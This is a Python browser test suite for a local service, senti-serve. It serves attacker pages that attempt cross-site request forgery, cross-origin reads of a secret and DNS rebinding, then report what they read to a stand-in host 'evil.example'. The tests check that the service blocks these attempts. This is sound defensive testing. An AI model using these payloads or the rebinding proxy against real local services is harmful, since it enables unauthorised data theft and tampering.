"""senti-serve in a real browser: what web pages of other origins, and one whose name is rebound to this machine, can do to it."""
# needs: chromium
# seconds: 20
import http.server
import json
import os
import queue
import signal
import socket
import subprocess
import threading
from urllib.parse import urlencode

from serve_raw import Server, new_path, wait
from tap import check, run

SECRET = "a text that no page may read"
# The last one that a page tries is to be led to the server by a link, which works for all.
PAGE = b"""<!DOCTYPE html><iframe name=sink></iframe><script>
const asked = new URLSearchParams(location.search), target = asked.get('target'), read = [];
const message = id => JSON.stringify({id, text: 'planted'});
const send = (path, options) => fetch(target + path, options).then(async answer => answer.text(), () => '');
const json = {'Content-Type': 'application/json'};

async function reads(name, path) {
	if ((await send(path)).includes(asked.get('secret')))
		read.push(name);
}

function form(enctype, name, value) {
	return new Promise(done => {
		const sink = document.querySelector('iframe'), f = document.createElement('form'), i = document.createElement('input');
		Object.assign(f, {method: 'POST', action: target + '/v1/messages', enctype, target: 'sink'});
		Object.assign(i, {name, value});
		f.append(i);
		document.body.append(f);
		sink.onload = done;
		f.submit();
	});
}

function listens(path) {
	return new Promise(done => {
		const source = new EventSource(target + path);
		source.onopen = () => { read.push('EventSource'); source.close(); done(); };
		source.onerror = () => { source.close(); done(); };
	});
}

async function attack() {
	const post = (options) => send('/v1/messages', {method: 'POST', ...options});
	await post({mode: 'no-cors', body: new Blob([message('no-type')])});
	await post({mode: 'no-cors', body: message('text-plain')});
	await post({mode: 'no-cors', body: new Blob([message('octets')], {type: 'application/octet-stream'})});
	await post({headers: json, body: message('json')});
	await send('/v1/messages/to-patch', {method: 'PATCH', headers: json, body: '{"label":"positive"}'});
	await send('/v1/messages/to-delete', {method: 'DELETE'});
	await form('text/plain', '{"id":"form","text":"', '"}');
	await form('application/x-www-form-urlencoded', message('form-urlencoded'), '');
	await reads('fetch', '/v1/messages');
	await reads('fetch of one', '/v1/messages/kept');
	await listens('/v1/events');
	await fetch(asked.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(read)});
	location = target + '/v1/models';
}
attack();
</script>"""
# A page that has a token follows the events with a ticket, and tries the same ticket again.
FOLLOWER = b"""<!DOCTYPE html><script>
const asked = new URLSearchParams(location.search), target = asked.get('target');

function follow(ticket) {
	return new Promise(done => {
		const source = new EventSource(`${target}/v1/events?last-event-id=0&ticket=${ticket}`);
		source.addEventListener('scored', event => { source.close(); done(JSON.parse(event.data).id); });
		source.onerror = () => done(source.readyState === EventSource.CLOSED ? 'closed' : 'tries again');
	});
}

async function run() {
	const answer = await fetch(target + '/v1/tickets', {method: 'POST', headers: {Authorization: 'Bearer ' + asked.get('secret')}});
	const {ticket} = await answer.json();
	const seen = [await follow(ticket), await follow(ticket)];
	await fetch(asked.get('report'), {method: 'POST', mode: 'no-cors', body: JSON.stringify(seen)});
}
run();
</script>"""
PAGES = {"attack": PAGE, "follow": FOLLOWER}


class Attacker:
    """Serves the page under any name, and hears what it could read."""

    def __init__(self):
        reports = self.reports = queue.Queue()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                page = PAGES.get(self.path[1:].split("?")[0], b"")
                self.send_response(200 if page else 404)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self):
                reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def pump(a, b):
    try:
        while data := a.recv(65536):
            b.sendall(data)
        b.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class Rebound:
    """A host of the attacker whose name leads to senti-serve as soon as the page is loaded: what else comes is passed on byte for byte."""

    def __init__(self, attacker, server):
        self.ports = attacker.port, server.port
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        try:
            while True:
                threading.Thread(target=self.connect, args=self.listener.accept()[:1], daemon=True).start()
        except OSError:
            pass

    def connect(self, client):
        first = client.recv(65536)
        with client, socket.create_connection(("127.0.0.1", self.ports[not first.startswith(b"GET /attack")])) as to:
            to.sendall(first)
            back = threading.Thread(target=pump, args=(to, client), daemon=True)
            back.start()
            pump(client, to)
            back.join()

    def close(self):
        self.listener.shutdown(socket.SHUT_RDWR)  # which ends accept
        self.listener.close()


def visit(attacker, page, target, name="attack", secret=SECRET):
    """Opens the page and lets it attack the target: what it could read."""
    url = f"{page}/{name}?" + urlencode({"target": target, "secret": secret, "report": f"http://evil.example:{attacker.port}/report"})
    log = new_path("chromium.log")
    with open(log, "wb") as out:
        browser = subprocess.Popen(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--remote-debugging-port=0",
             f"--user-data-dir={new_path('profile')}", "--host-resolver-rules=MAP *.example 127.0.0.1", url],
            stdin=subprocess.DEVNULL, stdout=out, stderr=out, start_new_session=True)
    try:
        try:
            read = attacker.reports.get(timeout=60)
        except queue.Empty:
            with open(log, errors="replace") as f:
                raise AssertionError("the page did not report: " + f.read()[-2000:]) from None
        yield read
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()


def attack(server, attacker, page, target):
    """What a page did: the ids that it planted, what it changed and what it read; and whether it could follow a link."""
    for name in ("kept", "to-patch", "to-delete"):
        assert server.post("/v1/messages", json.dumps({"id": name, "text": SECRET}).encode())[0] == 202
    visiting = visit(attacker, page, target)
    read = next(visiting)
    answers = [r for r in (f"path=/v1/models status={n}" for n in (200, 421))]
    link = wait(lambda: next((a for a in answers if a in server.said()), None), "the link is followed")
    visiting.close()
    _, _, body = server.ask("GET", "/v1/messages?limit=1000")
    rows = {row["id"]: row for row in json.loads(body)["items"]}
    done = sorted(rows.keys() - {"kept", "to-patch", "to-delete"}) + read
    if "to-delete" not in rows:
        done.append("DELETE")
    if rows["to-patch"]["sentiment"]["label"] == "positive":
        done.append("PATCH")
    return done, link == answers[0]


def page_does(*options, host="evil.example", target="127.0.0.1"):
    attacker = Attacker()
    try:
        with Server("--access-log", *(o.replace("PORT", str(attacker.port)) for o in options)) as s:
            return attack(s, attacker, f"http://{host}:{attacker.port}", f"http://{target}:{s.port}")
    finally:
        attacker.close()


def rebound_does(*options):
    attacker = Attacker()
    try:
        with Server("--access-log", *options) as s:
            rebound = Rebound(attacker, s)
            own = f"http://rebound.example:{rebound.port}"
            try:
                return attack(s, attacker, own, own)
            finally:
                rebound.close()
    finally:
        attacker.close()


@check
def page_of_another_site():
    """a page of another site writes, deletes and reads nothing; its link to the server works"""
    did, linked = page_does()
    assert not did and linked, (did, linked)


@check
def page_of_this_machine():
    """nor does one on another port of this machine, which browsers call same-site"""
    did, linked = page_does(host="localhost", target="localhost")
    assert not did and linked, (did, linked)


@check
def rebound_page():
    """nor does a page whose name leads to the server, so that it is of the server's origin"""
    did, linked = rebound_does()
    assert not did and not linked, (did, linked)


@check
def page_that_cors_names():
    """--cors lets a page of that origin send JSON, change, delete and read, and still nothing that needs no leave"""
    did, linked = page_does("--cors", "http://evil.example:PORT")
    assert linked and set(did) == {"json", "PATCH", "DELETE", "fetch", "fetch of one", "EventSource"}, did


@check
def own_page():
    """a page of the server's own origin, by a name of --host, may all that has a type"""
    did, linked = rebound_does("--host", "rebound.example")
    assert linked and set(did) == {"json", "PATCH", "DELETE", "fetch", "fetch of one", "EventSource"}, did


@check
def page_with_a_ticket():
    """EventSource follows the events with a ticket; the same ticket again is refused, and it gives up"""
    made = subprocess.run(["senti-serve", "--new-token", "page:write"], capture_output=True, text=True, check=True, timeout=60)
    tokens, attacker = new_path("tokens"), Attacker()
    with open(tokens, "w") as f:
        f.write(made.stdout)
    token, origin = made.stderr.strip(), f"http://friend.example:{attacker.port}"
    try:
        with Server("--access-log", "--tokens", tokens, "--cors", origin) as s:
            assert s.ask("POST", "/v1/messages", b'{"id":"first","text":"I love it"}',
                         {"Content-Type": "application/json", "Authorization": f"Bearer {token}"})[0] == 202
            visiting = visit(attacker, origin, f"http://127.0.0.1:{s.port}", "follow", token)
            assert next(visiting) == ["first", "closed"]
            visiting.close()
            assert "ticket_" not in s.said()
    finally:
        attacker.close()


run()
